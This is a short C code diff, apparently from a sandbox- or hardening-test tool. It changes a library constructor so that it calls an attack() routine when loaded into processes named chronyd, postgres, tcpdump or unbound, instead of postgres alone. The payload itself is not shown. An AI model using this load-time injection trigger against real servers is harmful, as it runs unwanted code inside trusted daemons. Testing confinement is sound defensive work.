@@ -94,13 +94,20 @@ int accept4(int fd, struct sockaddr *addr, socklen_t *len, int flags)
 	return syscall(SYS_accept4, fd, addr, len, flags);
 }
 
-/* PostgreSQL: a server process, when it is told to load a library. */
+/*
+ * PostgreSQL: a server process, when it is told to load a library. Others, when
+ * they start.
+ */
 __attribute__((constructor))
 static void loaded(void)
 {
+	static const char *const names[] = {
+		"chronyd", "postgres", "tcpdump", "unbound",
+	};
 	char name[16] = "";
 
 	prctl(PR_GET_NAME, name);
-	if (!strcmp(name, "postgres"))
-		attack();
+	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++)
+		if (!strcmp(name, names[i]))
+			attack();
 }
